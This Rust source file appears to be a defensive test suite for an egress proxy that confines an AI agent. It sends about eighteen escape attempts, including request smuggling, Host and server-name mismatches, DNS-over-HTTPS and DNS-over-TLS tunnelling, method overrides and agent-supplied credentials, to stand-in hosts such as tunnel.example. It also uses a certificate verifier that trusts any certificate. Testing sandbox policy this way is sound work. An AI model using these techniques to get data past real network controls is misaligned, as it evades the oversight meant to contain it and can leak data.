//! What an opened connection could be talked into: other hosts, other methods, other credentials, DoT and DoH.

use std::{
    io::{self, Write as _},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    sync::Arc,
    time::Duration,
};

use rustls::{
    ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme, StreamOwned,
    client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier},
    crypto::{CryptoProvider, aws_lc_rs},
};
use rustls_pki_types::{CertificateDer, ServerName, UnixTime};

use super::{Attack, Goal, Scene, arrive};
use crate::{
    doctor::stage::places::{FAR_V4, far},
    launch::PROXY_PORT,
};

/// A name that policy on the stage knows, and what it permits there: reads.
const KNOWN: &str = "storage.googleapis.com";

pub const CONTROLS: &[Attack] = &[Attack {
    name: "allowed-read",
    what: "control: what policy allows gets through",
    goal: Goal::Pass,
    way: |scene| {
        let path = format!("/storage/v1/b/{}", scene.mark());
        https(KNOWN, &request("GET", &path, KNOWN, ""))
    },
}];

pub const ATTACKS: &[Attack] = &[
    arrive("denied-method", "what policy denies, over TLS", |scene| {
        let path = format!("/storage/v1/b/{}", scene.mark());
        https(
            KNOWN,
            &request("DELETE", &path, KNOWN, "content-length: 0\r\n"),
        )
    }),
    arrive(
        "method-override",
        "the same, dressed up as another method",
        |scene| {
            let path = format!("/storage/v1/b/{}", scene.mark());
            let more = "x-http-method-override: DELETE\r\ncontent-length: 0\r\n";
            https(KNOWN, &request("POST", &path, KNOWN, more))
        },
    ),
    arrive(
        "host-mismatch",
        "one name in the handshake, another in Host",
        |scene| {
            let host = format!("{}.tunnel.example", scene.mark());
            https(KNOWN, &request("GET", "/storage/v1/b/x", &host, ""))
        },
    ),
    arrive("host-twice", "two Host headers", |scene| {
        let more = format!("host: {}.tunnel.example\r\n", scene.mark());
        https(KNOWN, &request("GET", "/storage/v1/b/x", KNOWN, &more))
    }),
    arrive(
        "absolute-form",
        "another host in the request line",
        |scene| {
            let path = format!("https://{}.tunnel.example/", scene.mark());
            https(KNOWN, &request("GET", &path, KNOWN, ""))
        },
    ),
    arrive(
        "smuggling",
        "a second request behind two lengths",
        |scene| {
            let second = format!(
                "GET /storage/v1/b/{} HTTP/1.1\r\nhost: {KNOWN}\r\n\r\n",
                scene.mark()
            );
            let more = format!(
                "content-length: {}\r\ntransfer-encoding: chunked\r\n",
                second.len() + 5
            );
            let first = request("POST", "/storage/v1/b", KNOWN, &more);
            https(KNOWN, &format!("{first}0\r\n\r\n{second}"))
        },
    ),
    arrive(
        "own-credential",
        "a credential that the agent brings",
        |scene| {
            let more = format!("authorization: Bearer {}\r\n", scene.mark());
            https(KNOWN, &request("GET", "/storage/v1/b/x", KNOWN, &more))
        },
    ),
    arrive("api-key", "an API key that the agent brings", |scene| {
        let path = format!("/storage/v1/b/x?key={}", scene.mark());
        https(KNOWN, &request("GET", &path, KNOWN, ""))
    }),
    arrive(
        "server-name",
        "data in the handshake's server name",
        |scene| {
            let host = format!("{}.tunnel.example", scene.mark());
            https(&host, &request("GET", "/", &host, ""))
        },
    ),
    arrive("doh", "DNS over HTTPS", |scene| {
        doh(scene, "dns.tunnel.example")
    }),
    arrive("doh-google", "DNS over HTTPS, of Google's", |scene| {
        doh(scene, "dns.google")
    }),
    arrive(
        "doh-cloudflare",
        "DNS over HTTPS, of Cloudflare's",
        |scene| doh(scene, "cloudflare-dns.com"),
    ),
    arrive("dot", "DNS over TLS", |scene| {
        let host = format!("{}.tunnel.example", scene.mark());
        // What is asked does not matter: the name is gone by then.
        tls(far(FAR_V4, 853), &host, &request("GET", "/", &host, ""))
    }),
    arrive("plain-http", "HTTP in the clear", |scene| {
        let path = format!("/{}", scene.mark());
        plain(
            far(FAR_V4, 80),
            &request("GET", &path, "tunnel.example", ""),
        )
    }),
    arrive(
        "plain-http-google",
        "HTTP in the clear to a name that policy knows",
        |scene| {
            let path = format!("/storage/v1/b/{}", scene.mark());
            plain(far(FAR_V4, 80), &request("GET", &path, KNOWN, ""))
        },
    ),
    arrive("other-protocol", "SSH, say", |scene| {
        plain(far(FAR_V4, 443), &format!("SSH-2.0-{}\r\n", scene.mark()))
    }),
    arrive(
        "proxy-connect",
        "CONNECT at the proxy's own port",
        |scene| {
            let head = request("CONNECT", "203.0.113.2:9999", "203.0.113.2:9999", "");
            plain(proxy(), &format!("{head}{}\n", scene.mark()))
        },
    ),
    arrive(
        "proxy-absolute",
        "a proxy request at the proxy's own port",
        |scene| {
            let path = format!("http://203.0.113.2:9999/{}", scene.mark());
            plain(proxy(), &request("GET", &path, "203.0.113.2:9999", ""))
        },
    ),
];

fn doh(scene: &Scene, host: &str) -> io::Result<()> {
    let path = format!("/dns-query?dns={}", scene.mark());
    https(host, &request("GET", &path, host, ""))
}

fn proxy() -> SocketAddr {
    (Ipv4Addr::LOCALHOST, PROXY_PORT).into()
}

fn request(method: &str, target: &str, host: &str, more: &str) -> String {
    format!("{method} {target} HTTP/1.1\r\nhost: {host}\r\n{more}\r\n")
}

fn https(name: &str, request: &str) -> io::Result<()> {
    tls(far(FAR_V4, 443), name, request)
}

/// The handshake, the request, and the answer's first line, which has to say 200.
fn tls(to: SocketAddr, name: &str, request: &str) -> io::Result<()> {
    let socket = patient(to)?;
    let name = ServerName::try_from(name.to_owned()).map_err(io::Error::other)?;
    let connection = ClientConnection::new(Arc::new(client()?), name).map_err(io::Error::other)?;
    let mut stream = StreamOwned::new(connection, socket);
    stream.write_all(request.as_bytes())?;
    stream.flush()?;
    answered(stream)
}

fn plain(to: SocketAddr, request: &str) -> io::Result<()> {
    let mut stream = patient(to)?;
    stream.write_all(request.as_bytes())?;
    answered(stream)
}

fn patient(to: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpStream::connect(to)?;
    socket.set_read_timeout(Some(Duration::from_secs(3)))?;
    Ok(socket)
}

fn answered(mut from: impl io::Read) -> io::Result<()> {
    let mut answer = Vec::new();
    let mut part = [0; 1024];
    while !answer.contains(&b'\n') {
        match from.by_ref().read(&mut part)? {
            0 => return Err(io::ErrorKind::UnexpectedEof.into()),
            length => answer.extend_from_slice(&part[..length]),
        }
    }
    let line = String::from_utf8_lossy(
        answer
            .split(|byte| *byte == b'\r')
            .next()
            .unwrap_or(&answer),
    )
    .into_owned();
    if line.starts_with("HTTP/1.1 200") {
        return Ok(());
    }
    Err(io::Error::other(format!("answered {line}")))
}

/// One that believes everybody, as an attacker's would.
fn client() -> io::Result<ClientConfig> {
    let provider = Arc::new(aws_lc_rs::default_provider());
    let config = ClientConfig::builder_with_provider(provider.clone())
        .with_safe_default_protocol_versions()
        .map_err(io::Error::other)?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Credulous(provider)))
        .with_no_client_auth();
    Ok(config)
}

#[derive(Debug)]
struct Credulous(Arc<CryptoProvider>);

impl ServerCertVerifier for Credulous {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        self.0.signature_verification_algorithms.supported_schemes()
    }
}
